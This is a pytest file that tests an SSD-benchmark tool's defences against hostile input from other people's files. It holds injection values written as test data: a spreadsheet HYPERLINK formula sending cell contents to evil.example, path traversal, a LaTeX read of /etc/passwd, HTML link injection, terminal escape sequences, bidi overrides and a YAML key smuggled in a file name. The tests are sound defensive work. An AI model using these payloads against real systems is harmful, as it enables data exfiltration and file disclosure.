"""Texts of files of others become names of files, cells, lines of a terminal: none of them acts."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from typer.testing import CliRunner

import opennandlab as onl
from conftest import SHORT, SMALL
from opennandlab.base.errors import ResultError, StoreError
from opennandlab.base.files import no_formula
from opennandlab.cli import _streams
from opennandlab.cli import app as command_line
from opennandlab.reports import html
from opennandlab.reports.figure import static
from opennandlab.reports.figure.model import Axis, Plot, Series
from opennandlab.reports.model import page_of
from opennandlab.store import Store, packing
from opennandlab.store.exporting import export
from opennandlab.store.latex import latex_table
from stored import entry

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def test_a_store_whose_key_is_a_path_is_damaged(tmp_path: Path) -> None:
    """Keys name files, such as the document that a button verifies; a store may come from anybody.

    The checksum is right: whoever writes a store can compute it.
    """
    with Store.open(tmp_path) as store:
        store.add([entry(1)])
    key = "abcd/../../../evil"
    checksum = packing.packed(dataclasses.replace(entry(1), key=key)).checksum
    with sqlite3.connect(tmp_path / "runs.db") as connection:
        connection.execute("UPDATE point SET key = ?, checksum = ?", (key, checksum))
    connection.close()
    with Store.open(tmp_path) as store, pytest.raises(StoreError, match="is not as it was kept"):
        store.entry("abcd")
    with Store.open(tmp_path / "other") as other:
        with pytest.raises(StoreError, match="is not as it was kept"):
            other.merge(tmp_path)
        assert not other.keys()


def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
    """Reports in CSV had no formulas; the exports of a store and of a comparison had."""
    with Store.open(tmp_path / "store") as store:
        store.add([entry(1, coordinates={FORMULA: FORMULA, "x": "-1.5"}, host=FORMULA)])
        export(store, tmp_path / "rows.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "rows.csv").read_text())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert "-1.5" in cells
    assert not [cell for cell in cells if no_formula(cell) != cell]


def test_the_sheet_of_a_comparison_has_no_formulas(tmp_path: Path) -> None:
    paths = [tmp_path / name for name in ("=1+1.json", "b.json")]
    for path in paths:
        onl.benchmark(SMALL, {**SHORT, "timed": False}).save(path)
    words = ["compare", *map(str, paths), "--csv", str(tmp_path / "sheet.csv")]
    assert CliRunner().invoke(command_line, words).exit_code == 0
    text = (tmp_path / "sheet.csv").read_text()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("'=1+1" in cell for cell in cells)
    assert not [cell for cell in cells if no_formula(cell) != cell]


def test_no_cell_of_latex_is_a_command() -> None:
    """A line end takes `[…]` and `*` behind it for its own, and an empty line ends a table."""
    text = latex_table(["[4cm]", "b"], [["[1cm]\n\n\\input{/etc/passwd}", "*"], ["*", "%"]])
    lines = text.splitlines()
    assert lines[3] == r"{}[4cm] & b \\"
    assert lines[5] == r"{}[1cm] \textbackslash{}input\{/etc/passwd\} & * \\"
    assert lines[6] == r"{}* & \% \\"


def test_a_name_in_a_figure_is_no_link() -> None:
    """Plotly makes a link of `<a href=…>` in a legend; a report is a file without remote parts."""
    link = "<a href='https://evil.example/'>greedy</a><br>"
    series = Series(link, (1.0, 2.0), (1.0, 2.0))
    plot = Plot("figure", link, Axis(link), Axis("y"), (series, series))
    page = html.page(page_of(link, link, [plot]))
    assert "<a href='https://evil" not in page
    assert "\\u003ca href" not in page
    assert "&lt;a href='https://evil.example/'>greedy&lt;/a>\\u003cbr>" in page


def test_a_note_does_not_act_on_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """Warnings and errors of documents were printed as they stood, escape sequences and all."""
    _streams.note("warning: \x1b]0;owned\x07\x1b[2J\nsecond line")
    said = capsys.readouterr().err
    assert "\x1b" not in said
    assert "\x07" not in said
    assert "\\x1b]0;owned" in said
    assert "second line" in said


def test_no_text_turns_the_digits_beside_it_around(capsys: pytest.CaptureFixture[str]) -> None:
    """A device called U+202E showed 871 where 178 was measured, in its table and its messages."""
    _streams.note("the drive \u202emoves 178 MB/s\u2066")
    said = capsys.readouterr().err
    assert "\\u202e" in said
    assert not {"\u202e", "\u2066"} & set(said)


def test_the_name_of_a_file_becomes_no_key_of_a_new_one(tmp_path: Path) -> None:
    """It stood in a comment, which ends with its line: the user's own file then named code."""
    path = tmp_path / "d\nftl: {gc_policy: 'evil:Evil'}\n#.yaml"
    path.write_text(json.dumps(SMALL))
    new = tmp_path / "new.yaml"
    words = ["config", "init", str(new), "--from", str(path)]
    assert CliRunner().invoke(command_line, words).exit_code == 0
    assert onl.load_device(new)["ftl.gc_policy"]["kind"] == "greedy"


@pytest.mark.parametrize("there", [None, b""])
def test_a_store_that_is_a_link_to_nothing_makes_no_file(
    tmp_path: Path, there: bytes | None
) -> None:
    """The folder of somebody else led to any place where no file was yet, or an empty one."""
    target = tmp_path / "elsewhere"
    if there is not None:
        target.write_bytes(there)
    (tmp_path / "store").mkdir()
    (tmp_path / "store" / "runs.db").symlink_to(target)
    with pytest.raises(StoreError, match="a broken link"):
        Store.open(tmp_path / "store")
    assert (target.read_bytes() if target.exists() else None) == there
    Store.open(tmp_path / "own").close()
    (tmp_path / "store" / "runs.db").unlink()
    (tmp_path / "store" / "runs.db").symlink_to(tmp_path / "own" / "runs.db")
    assert Store.open(tmp_path / "store").keys() == []


def test_a_drawing_of_odd_names_is_a_document_of_xml(recwarn: pytest.WarningsRecorder) -> None:
    """A name with an escape sequence made a file that no viewer opened, and a warning of Python."""
    odd = "a\x00\x01\x1b[31mb\ufffe"
    plot = Plot("p", odd, Axis(odd), Axis("y"), (Series(odd, (1, 2), (1, 2)),) * 2)
    fromstring(static.svg([plot]))
    assert not recwarn.list


def test_a_document_with_a_key_twice_is_refused(tmp_path: Path) -> None:
    """A reader that takes the first of two values saw other numbers under a valid digest."""
    path = tmp_path / "r.json"
    onl.benchmark(SMALL, SHORT).save(path)
    path.write_text(path.read_text().replace('"seed": 42', '"seed": 7, "seed": 42', 1))
    with pytest.raises(ResultError, match="is given twice"):
        onl.load(path)
